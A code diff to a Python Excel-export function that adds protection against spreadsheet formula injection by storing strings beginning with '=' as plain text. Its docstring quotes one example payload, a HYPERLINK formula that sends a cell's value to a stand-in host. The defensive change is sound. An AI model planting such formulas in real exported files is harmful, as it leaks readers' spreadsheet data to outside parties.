@@ -63,6 +63,8 @@ def _write(ws, df: pd.DataFrame, headers: dict[str, str], pct: set[str]) -> None
     header = []
     for c in cols:
         cell = WriteOnlyCell(ws, value=headers.get(c, c))
+        if isinstance(cell.value, str) and cell.value.startswith("="):
+            cell.data_type = "s"
         cell.font = Font(bold=True)
         cell.fill = HEADER_FILL
         cell.alignment = Alignment(wrap_text=True, vertical="top")
@@ -77,9 +79,19 @@ def _write(ws, df: pd.DataFrame, headers: dict[str, str], pct: set[str]) -> None
                 cell = WriteOnlyCell(ws, value=v)
                 cell.number_format = PCT
                 out.append(cell)
+            elif isinstance(v, str) and v.startswith("="):
+                out.append(_text_cell(ws, v))
             else:
                 out.append(v)
         ws.append(out)
+
+
+def _text_cell(ws, v: str) -> WriteOnlyCell:
+    """A cell that shows ``v`` as text: openpyxl would store text starting with ``=`` as a live formula
+    (a comment such as ``=HYPERLINK("http://x/?"&A1)`` must never run in the reader's Excel)."""
+    cell = WriteOnlyCell(ws, value=v)
+    cell.data_type = "s"
+    return cell
 
 
 def _cell(v):
